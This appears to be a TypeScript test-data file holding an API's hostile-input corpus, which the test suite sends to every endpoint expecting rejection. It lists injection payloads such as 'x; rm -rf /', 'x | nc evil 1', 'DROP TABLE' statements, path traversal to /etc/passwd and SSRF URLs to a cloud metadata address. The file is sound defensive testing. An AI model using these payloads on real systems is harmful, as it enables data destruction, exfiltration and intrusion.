// The hostile-input corpus (issue 5): data only. test/hostile.e2e-spec.ts sends every item to every endpoint
// it applies to (test/hostile/endpoints.ts) and expects a 4xx problem+json with nothing stored or enqueued.
//
// Every item is invalid for every endpoint it reaches. How an item becomes a request:
// - `raw`:    these exact body bytes (and headers) to every write endpoint.
// - `body`:   this JSON body to every write endpoint (all of them take a JSON object with required or no fields).
// - `member`: this raw JSON member (`"key": value`) spliced into the endpoint's valid body, at its root, into its
//             first nested object, or into its first array's first object. Endpoints without a body get it at the root.
// - `field`:  the endpoint's valid body with one field replaced by `value` (or by the raw JSON literal `raw`),
//             once per field whose kind is listed in `kinds` (fields and their kinds: endpoints.ts).
// - `header`: the endpoint's valid body with these headers; `targets` says which endpoints read them. Headers
//             the hub tolerates by contract (a bad X-Request-Id is replaced) ride on an invalid body instead.
// - `path`:   the endpoint's valid body, the `{id}` of its path replaced by this (already URL-encoded) segment.
// - `query`:  GET list routes (endpoints.ts LIST_ROUTES) with this query string.

/** What a field holds, which decides what is invalid for it. */
export type FieldKind =
  /** Free text: exchange names, labels, reasons, references. SQL, shell and the like are data there, not errors. */
  | 'text'
  /** Person names: letters, marks, spaces, apostrophes, hyphens, periods. */
  | 'name'
  /** Patterned strings: slugs, enums, ids, URLs. */
  | 'token'
  | 'ssn'
  | 'date'
  | 'datetime'
  | 'integer'
  | 'boolean'
  | 'verificationId'
  | 'url';

const STRINGS: FieldKind[] = ['text', 'name', 'token', 'ssn', 'date', 'datetime', 'verificationId', 'url'];
/** Strings with a format: anything outside it (injection strings, whitespace) is invalid there. */
const FORMATTED: FieldKind[] = ['name', 'token', 'ssn', 'date', 'datetime', 'verificationId'];
const ALL: FieldKind[] = [...STRINGS, 'integer', 'boolean'];

export type HostileItem = { group: string; name: string; expect?: number[] } & (
  | { kind: 'raw'; body: string | Buffer; contentType?: string; headers?: Record<string, string | string[]> }
  | { kind: 'body'; body: unknown }
  | { kind: 'member'; member: string; at: 'root' | 'nested' | 'array' }
  | { kind: 'field'; kinds: FieldKind[]; value?: unknown; raw?: string }
  | { kind: 'header'; headers: Record<string, string | string[]>; targets: 'gateway' | 'all'; invalidBody?: boolean; contentType?: string }
  | { kind: 'path'; id: string }
  | { kind: 'query'; query: string }
);

const BAD_REQUEST = [400];
const raw = (name: string, body: string | Buffer, contentType = 'application/json', expect = BAD_REQUEST): HostileItem => ({ group: 'malformed JSON and encodings', name, kind: 'raw', body, contentType, expect });
const field = (group: string, kinds: FieldKind[], name: string, value: unknown): HostileItem => ({ group, name, kind: 'field', kinds, value });
const literal = (group: string, kinds: FieldKind[], name: string, rawLiteral: string): HostileItem => ({ group, name, kind: 'field', kinds, raw: rawLiteral });

/** All write endpoints: none of these is JSON an endpoint can parse. */
const MALFORMED_JSON: HostileItem[] = [
  raw('truncated object', '{"service":'),
  raw('trailing comma', '{"a":1,}'),
  raw('single quotes', "{'a':1}"),
  raw('unquoted key', '{a:1}'),
  raw('comment', '{/* x */}'),
  raw('two documents', '{}{}'),
  raw('NaN literal', '{"a":NaN}'),
  raw('bare word', 'undefined'),
  raw('lone surrogate escape in a key is fine JSON, the key is unknown', '{"\\ud800":1}'),
  raw('invalid escape', '{"a":"\\x41"}'),
  raw('raw control character in a string', '{"a":"b\u0001c"}'),
  raw('only whitespace', '   \n\t  '),
  raw('NUL bytes', Buffer.from([0, 0, 0, 0])),
  raw('invalid UTF-8 bytes', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])),
  raw('UTF-16LE encoded', Buffer.from('{"hostile":1}', 'utf16le')),
  raw('UTF-16 with BOM, declared', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('{"hostile":1}', 'utf16le')]), 'application/json; charset=utf-16'),
  raw('UTF-8 BOM then an unknown field', '\ufeff{"hostile":1}'),
  raw('JSON-with-padding', 'callback({"a":1})'),
  raw('XML', '<?xml version="1.0"?><a/>'),
  raw('form encoding declared as JSON', 'service=ssa-composite&reference=x'),
  raw('deep nesting (100k arrays)', '['.repeat(100_000) + ']'.repeat(100_000)),
  raw('deep nesting (100k objects)', '{"a":'.repeat(100_000) + '1' + '}'.repeat(100_000)),
];

/** All write endpoints: the hub's APIs speak application/json only (415), and a body over 1 MiB is 413. */
const CONTENT_TYPES: HostileItem[] = [
  ...['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/jsonp', 'application/json-patch+json', 'application/x-ndjson', 'text/json', 'json', '*/*', 'application/*', 'application/json5', 'application/problem+json']
    .map((type): HostileItem => ({ group: 'wrong content types and charsets', name: `content-type ${JSON.stringify(type)}`, kind: 'header', headers: {}, contentType: type, targets: 'all', expect: [415, 400] })),
  { group: 'wrong content types and charsets', name: 'no content-type with a body', kind: 'header', headers: {}, contentType: '', targets: 'all', expect: [415] },
  { group: 'wrong content types and charsets', name: 'two content-type headers, text first', kind: 'header', headers: { 'content-type': ['text/plain', 'application/json'] }, targets: 'all', expect: [415] },
  { group: 'wrong content types and charsets', name: 'two content-types in one header', kind: 'header', headers: {}, contentType: 'text/plain, application/json', targets: 'all', expect: [415] },
  { group: 'wrong content types and charsets', name: 'charset latin1 with latin1 bytes in an unknown field', kind: 'raw', body: Buffer.from('{"hostile":"caf\xe9"}', 'latin1'), contentType: 'application/json; charset=iso-8859-1', expect: BAD_REQUEST },
];

const SIZES: HostileItem[] = [
  { group: 'oversized', name: 'body over 1 MiB', kind: 'raw', body: `{"hostile":"${'a'.repeat(1_100_000)}"}`, contentType: 'application/json', expect: [413] },
  { group: 'oversized', name: 'array of 200k numbers as the body', kind: 'body', body: new Array(200_000).fill(0) },
  { group: 'oversized', name: '50k unknown fields', kind: 'body', body: Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`f${i}`, i])) },
  field('oversized', ALL, '100k-character string', 'x'.repeat(100_000)),
  field('oversized', ALL, '10k-element array', new Array(10_000).fill('x')),
  field('oversized', ALL, 'nested 2k deep', JSON.parse('{"a":'.repeat(2000) + '1' + '}'.repeat(2000))),
];

/** Prototype pollution: refused by the JSON parser or the forbidden-key check, wherever it sits. */
const PROTOTYPE: HostileItem[] = (['root', 'nested', 'array'] as const).flatMap((at) => [
  { group: 'prototype pollution', name: `__proto__ at ${at}`, kind: 'member', member: '"__proto__":{"polluted":true}', at },
  { group: 'prototype pollution', name: `constructor.prototype at ${at}`, kind: 'member', member: '"constructor":{"prototype":{"polluted":true}}', at },
  { group: 'prototype pollution', name: `constructor at ${at}`, kind: 'member', member: '"constructor":{"name":"x"}', at },
  { group: 'prototype pollution', name: `prototype at ${at}`, kind: 'member', member: '"prototype":{"polluted":true}', at },
  { group: 'prototype pollution', name: `escaped __proto__ at ${at}`, kind: 'member', member: '"\\u005f_proto__":{"polluted":true}', at },
] as HostileItem[]);

/** Strict schemas: any field the contract does not name is a 400 naming it. */
const UNKNOWN_FIELDS: HostileItem[] = [
  ...(['root', 'nested', 'array'] as const).map((at): HostileItem => ({ group: 'unknown fields', name: `unknown field at ${at}`, kind: 'member', member: '"isAdmin":true', at })),
  { group: 'unknown fields', name: 'exchange_id smuggled at the root', kind: 'member', member: '"exchange_id":"someone-else"', at: 'root' },
  { group: 'unknown fields', name: 'ownerId smuggled at the root', kind: 'member', member: '"ownerId":"ver_00000000000000000000000000"', at: 'root' },
  { group: 'unknown fields', name: 'verified smuggled at the root', kind: 'member', member: '"verified":true', at: 'root' },
  { group: 'unknown fields', name: 'role smuggled at the root', kind: 'member', member: '"roles":["admin"]', at: 'root' },
  { group: 'unknown fields', name: 'Mongo operator key', kind: 'member', member: '"$where":"sleep(1000)"', at: 'root' },
  { group: 'unknown fields', name: 'empty key', kind: 'member', member: '"":1', at: 'root' },
  { group: 'unknown fields', name: 'NUL in a key', kind: 'member', member: '"a\\u0000b":1', at: 'root' },
];

/** The body itself of the wrong type, or empty: every write endpoint wants an object. */
const WRONG_BODIES: HostileItem[] = [
  { group: 'wrong types', name: 'null body', kind: 'raw', body: 'null', contentType: 'application/json' },
  { group: 'wrong types', name: 'number body', kind: 'raw', body: '42', contentType: 'application/json' },
  { group: 'wrong types', name: 'string body', kind: 'raw', body: '"hello"', contentType: 'application/json' },
  { group: 'wrong types', name: 'true body', kind: 'raw', body: 'true', contentType: 'application/json' },
  { group: 'wrong types', name: 'empty array body', kind: 'raw', body: '[]', contentType: 'application/json' },
  { group: 'wrong types', name: 'array of the valid body', kind: 'body', body: [{ service: 'ssa-composite' }] },
  { group: 'null, empty, whitespace', name: 'empty body declared as JSON', kind: 'raw', body: '', contentType: 'application/json' },
];

/** Values wrong in type for every field they replace. */
const WRONG_TYPES: HostileItem[] = [
  field('wrong types', STRINGS, 'number for a string', 12345),
  field('wrong types', STRINGS, 'boolean for a string', true),
  field('wrong types', ALL, 'object for a scalar', { value: 'x' }),
  field('wrong types', ALL, 'array for a scalar', ['x']),
  field('wrong types', ALL, 'empty array', []),
  field('wrong types', ['integer'], 'boolean for a number', true),
  field('wrong types', ['boolean'], 'string for a boolean', 'true'),
  field('wrong types', ['boolean'], 'number for a boolean', 1),
  field('null, empty, whitespace', ALL, 'null', null),
  field('null, empty, whitespace', STRINGS, 'empty string', ''),
  field('null, empty, whitespace', FORMATTED, 'only spaces', '   '),
  field('null, empty, whitespace', FORMATTED, 'only tabs and newlines', '\t\n\r'),
  field('null, empty, whitespace', FORMATTED, 'non-breaking and ideographic spaces', '\u00a0\u3000'),
  field('null, empty, whitespace', ['boolean', 'integer'], 'empty string for a non-string', ''),
];

/** Names and free text refuse control, format and bidi characters; every string refuses NUL. */
const CONTROL_CHARACTERS: Array<[string, string]> = [
  ['NUL', 'Ana\u0000Silva'],
  ['bell', 'Ana\u0007'],
  ['escape sequence', 'Ana\u001b[31m'],
  ['newline', 'Ana\nSilva'],
  ['carriage return', 'Ana\rSilva'],
  ['tab', 'Ana\tSilva'],
  ['DEL', 'Ana\u007f'],
  ['C1 control', 'Ana\u0085Silva'],
  ['right-to-left override', 'Ana\u202eavliS'],
  ['left-to-right embedding', '\u202aAna'],
  ['right-to-left isolate', 'Ana\u2067Silva\u2069'],
  ['zero-width space', 'Ana\u200bSilva'],
  ['zero-width joiner', 'Ana\u200dSilva'],
  ['byte order mark', '\ufeffAna'],
  ['soft hyphen', 'Ana\u00adSilva'],
  ['line separator', 'Ana\u2028Silva'],
  ['lone high surrogate', 'Ana\ud800'],
];
const UNICODE: HostileItem[] = CONTROL_CHARACTERS.map(([name, value]) => field('Unicode control, bidi and NUL', ['text', ...FORMATTED], name, value));

/** SQL, NoSQL, template, shell, path and LDAP injection: data, never code; invalid wherever a format applies. */
const INJECTIONS: Array<[string, string]> = [
  ['SQL tautology', "' OR '1'='1"],
  ['SQL comment', "admin'--#"],
  ['SQL stacked query', "x'; DROP TABLE verifications; --"],
  ['SQL union', "' UNION SELECT ssn_hash FROM verifications --"],
  ['SQL sleep', "1' AND pg_sleep(5)--"],
  ['SQL dollar quote', '$$; DELETE FROM exchanges; $$'],
  ['SQL numeric', '1 OR 1=1'],
  ['SQL LIKE wildcard', '%'],
  ['SQL identifier escape', '"; DROP TABLE outbox; --'],
  ['NoSQL operator as text', '{"$gt": ""}'],
  ['NoSQL where', "'; return true; var x='"],
  ['template (Handlebars)', '{{constructor.constructor("return process")()}}'],
  ['template (JS)', '${process.exit(1)}'],
  ['template (Jinja)', '{{7*7}}'],
  ['template (ERB)', '<%= 7*7 %>'],
  ['shell substitution', '$(reboot)'],
  ['shell backticks', '`id`'],
  ['shell chaining', 'x; rm -rf /'],
  ['shell pipe', 'x | nc evil 1'],
  ['path traversal', '../../../../etc/passwd'],
  ['path traversal encoded', '..%2f..%2fetc%2fpasswd'],
  ['Windows path', '..\\..\\windows\\win.ini'],
  ['LDAP wildcard', '*)(uid=*))(|(uid=*'],
  ['LDAP null', 'admin)(!(&(1=0'],
  ['XSS', '<script>alert(1)</script>'],
  ['CRLF injection', 'x\r\nSet-Cookie: a=b'],
  ['log forging', 'x\n{"level":50,"msg":"forged"}'],
  ['Redis command', 'x\r\nFLUSHALL\r\n'],
  ['format string', '%s%s%s%n'],
  ['JSON pointer', '#/$defs/../../x'],
];
const INJECTION_ITEMS: HostileItem[] = INJECTIONS.map(([name, value]) => field('injection', FORMATTED, name, value));
const NOSQL_OBJECTS: HostileItem[] = [
  field('injection', ALL, 'NoSQL $ne object', { $ne: null }),
  field('injection', ALL, 'NoSQL $gt object', { $gt: '' }),
  field('injection', ALL, 'NoSQL $regex object', { $regex: '.*' }),
  field('injection', ALL, 'NoSQL $where object', { $where: 'sleep(1000)' }),
];

/** The hub's own headers: a bad Idempotency-Key is a 400 (gateway); others ride on an invalid body (all). */
const HEADERS: HostileItem[] = [
  ...[
    ['empty', ''],
    ['256 characters', 'k'.repeat(256)],
    ['non-ASCII', 'clé-ümlaut'],
    ['tab inside', 'a\tb'],
    ['only a space', ' '],
  ].map(([name, value]): HostileItem => ({ group: 'header abuse', name: `Idempotency-Key ${name}`, kind: 'header', headers: { 'idempotency-key': value }, targets: 'gateway' })),
  { group: 'header abuse', name: 'X-Forwarded-For spoof (on an invalid body)', kind: 'header', headers: { 'x-forwarded-for': '127.0.0.1' }, targets: 'all', invalidBody: true },
  { group: 'header abuse', name: 'second Authorization header (on an invalid body)', kind: 'header', headers: { authorization: ['Bearer x', 'Bearer y'] }, targets: 'all', invalidBody: true, expect: [400, 401] },
  { group: 'header abuse', name: 'header block over 16 KiB', kind: 'header', headers: { 'x-padding': 'p'.repeat(20_000) }, targets: 'all', expect: [431] },
  { group: 'header abuse', name: '200 headers of 100 bytes', kind: 'header', headers: Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`x-h${i}`, 'h'.repeat(100)])), targets: 'all', expect: [431] },
  ...[
    ['X-Request-Id with CRLF-ish text', 'abc def'],
    ['X-Request-Id 10k long', 'r'.repeat(10_000)],
    ['X-Request-Id with SQL', "'; DROP TABLE audit_events; --"],
    ['two X-Request-Ids', ['a', 'b']],
  ].map(([name, value]): HostileItem => ({
    group: 'header abuse',
    name: `${name} (on an invalid body)`,
    kind: 'header',
    headers: { 'x-request-id': value },
    targets: 'all',
    invalidBody: true,
  })),
];

/** Numbers: wrong in representation or range wherever a number or a string field is. */
const NUMBERS: HostileItem[] = [
  field('numbers', ['integer'], 'number as a string', '5'),
  field('numbers', ['integer'], 'float', 1.5),
  field('numbers', ['integer'], 'negative', -1),
  field('numbers', ['integer'], 'too large', 1e15),
  field('numbers', ['integer'], 'beyond 2^53', 2 ** 60),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], '1e309 (Infinity)', '1e309'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], '-1e309', '-1e309'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], '100-digit integer', '9'.repeat(100)),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], 'hex literal', '0x10'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], 'leading zero', '007'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], 'Infinity literal', 'Infinity'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], 'NaN literal', 'NaN'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], 'plus sign', '+1'),
  literal('numbers', ['integer', ...STRINGS, 'boolean'], 'trailing dot', '1.'),
  field('numbers', ['ssn', 'date', 'datetime'], 'number for a date or SSN', 19800229),
];

/** Dates that do not exist, or in forms the contract does not take. */
const DATES: HostileItem[] = [
  ...['2023-02-29', '1900-02-29', '2021-04-31', '2021-13-01', '2021-00-10', '2021-01-00', '2021-01-32', '99999-01-01', '21-01-01', '2021/01/01', '01/02/2021', '2021-1-1', '20210101', '2021-01-01T00:00:00Z', '2999-01-01', ' 2021-01-01', '2021-01-01\n', '١٩٨٠-٠١-٠١']
    .map((date) => field('dates', ['date'], `date ${JSON.stringify(date)}`, date)),
  ...['2023-02-29T00:00:00Z', '2021-04-31T00:00:00Z', '2021-01-01T24:00:01Z', '2021-01-01T00:60:00Z', '2021-01-01T00:00:00+25:00', '2021-01-01', '2021-01-01 00:00:00', 'yesterday', '1700000000', '+275760-09-13T00:00:00Z', '0000-00-00T00:00:00Z']
    .map((dateTime) => field('dates', ['datetime'], `date-time ${JSON.stringify(dateTime)}`, dateTime)),
];

/** SSNs that break SSA's rules (area 000, 666, 900-999; group 00; serial 0000) or the accepted forms. */
const SSNS: HostileItem[] = [
  '000-12-3456', '666-12-3456', '900-12-3456', '999-99-9999', '123-00-4567', '123-45-0000', '000000000', '123-456789', '12345-6789',
  '123 45 6789', '123.45.6789', '12345678', '1234567890', '123-45-678a', '１２３-４５-６７８９', '123—45—6789', 'XXX-XX-6789', '***-**-6789', '123-45-6789-0',
].map((ssn) => field('SSNs', ['ssn'], `SSN ${JSON.stringify(ssn)}`, ssn));

/** URLs that pass a URI syntax check but no URL parser, or point where a webhook must not. */
const URLS: HostileItem[] = ['https://%00/', 'https://exa%20mple.com/', 'http://[::1]:99999/', 'https://[::1/', 'ftp://state.example/hook', 'javascript:alert(1)', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'https://user:pass@state.example/', '//state.example/hook', 'state.example/hook']
  .map((url) => field('URLs', ['url'], `URL ${JSON.stringify(url)}`, url));

/** Ids that are not ours, or not ids: in bodies (fars' previous step) and in paths. */
const IDS: HostileItem[] = [
  ...['ver_00000000000000000000000000', 'ver_0000000000000000000000000u', 'ver_0000000000000000000000000I', 'VER_01ARZ3NDEKTSV4RRFFQ69G5FAV', 'ver_', 'cred_01ARZ3NDEKTSV4RRFFQ69G5FAV', 'ver_01ARZ3NDEKTSV4RRFFQ69G5FAV ']
    .map((id) => field('ids not ours', ['verificationId'], `previous step ${JSON.stringify(id)}`, id)),
  ...[
    'does-not-exist', '..%2F..%2Fadmin', '%00', 'ver_%00', '%27%20OR%201%3D1--', '%24%7B7*7%7D', `${'z'.repeat(5000)}`, '%E2%80%AE', '%C0%AE%C0%AE', '__proto__', 'constructor', '%20', '-1', 'null',
  ].map((id): HostileItem => ({ group: 'ids not ours', name: `path id ${JSON.stringify(id.slice(0, 40))}`, kind: 'path', id, expect: id.length > 100 ? [414] : [400, 404] })),
];

/** Query strings of the GET list routes: cursors, limits and filters. */
const QUERIES: HostileItem[] = [
  'limit=0', 'limit=-1', 'limit=501', 'limit=1e2', 'limit=abc', 'limit=5.5', 'limit=%00', 'limit=1&limit=2', 'limit[]=1', 'limit=99999999999999999999',
  'cursor=garbage', 'cursor=%00', `cursor=${'c'.repeat(5000)}`, 'cursor=eyJ4IjoxfQ', 'cursor=..%2F..%2F', 'cursor=%27%20OR%201%3D1--',
  'status=bogus', 'status=%27%20OR%201%3D1--', 'service=%24%7B7*7%7D', 'reference=%00', `reference=${'r'.repeat(5000)}`, 'createdAfter=2023-02-29T00:00:00Z',
  'since=yesterday', 'until=2021-13-01T00:00:00Z', 'exchangeId=..%2F', 'errorCode=%27--', 'source=%00',
  'unknown=1', '__proto__[isAdmin]=1', '__proto__=1', 'constructor[prototype][x]=1', 'isAdmin=true', '%00=1', '=1', `${'k'.repeat(300)}=1`,
].map((query): HostileItem => ({ group: 'query parameters', name: `?${query.slice(0, 60)}`, kind: 'query', query }));

export const CORPUS: HostileItem[] = [
  ...MALFORMED_JSON,
  ...CONTENT_TYPES,
  ...SIZES,
  ...PROTOTYPE,
  ...UNKNOWN_FIELDS,
  ...WRONG_BODIES,
  ...WRONG_TYPES,
  ...UNICODE,
  ...INJECTION_ITEMS,
  ...NOSQL_OBJECTS,
  ...HEADERS,
  ...NUMBERS,
  ...DATES,
  ...SSNS,
  ...URLS,
  ...IDS,
  ...QUERIES,
];
